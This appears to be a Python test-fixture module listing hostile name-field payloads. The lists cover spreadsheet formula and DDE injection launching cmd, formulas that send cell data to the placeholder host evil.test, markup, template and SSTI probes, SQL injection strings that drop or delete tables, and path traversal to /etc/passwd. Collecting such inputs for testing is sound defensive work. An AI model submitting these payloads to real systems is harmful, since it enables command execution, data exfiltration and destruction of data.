"""What somebody types into a name to have it computed, opened, fetched or run by whoever reads it later."""

from __future__ import annotations

_FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.test?x="&A1;"нажмите")',
    '=WEBSERVICE("http://evil.test")',
    '=IMPORTXML("http://evil.test";"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '=ГИПЕРССЫЛКА("http://evil.test")',
    "={1;2}",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "@СУММ(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "%0A=1+1",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e400",
)
_MARKUP = (
    "Иванов <b>Пётр",
    "</para>",
    "<!--",
    "]]>",
    "&amp;&lt;&#0;",
    "<img src='/etc/passwd'/>",
    "<img src='http://evil.test/a.png'/>",
    "<a href='file:///etc/passwd'>тут</a>",
    "<font color='[[[getattr(pow, Word(\"__globals__\"))]]]'>x</font>",
    "<w:p/>",
    "{{ 7 * 7 }}",
    "{% for one in range(9) %}x{% endfor %}",
    "${7*7}",
    "%s%s%n",
    "\\u0000 \\x00",
    'INCLUDETEXT "c:\\\\secret.txt"',
)
_SQL = (
    "'; DROP TABLE person; --",
    '" OR ""="',
    'Robert\'); DELETE FROM "order";',
    "%",
    "_",
    "\\",
    "a' || sqlite_version() || '",
)
_PATHS = ("../../etc/passwd", "..\\..\\boot.ini", "C:\\Windows\\x", "CON", "file:///etc/passwd")

PAYLOADS = (*_FORMULAS, *_MARKUP, *_SQL, *_PATHS)
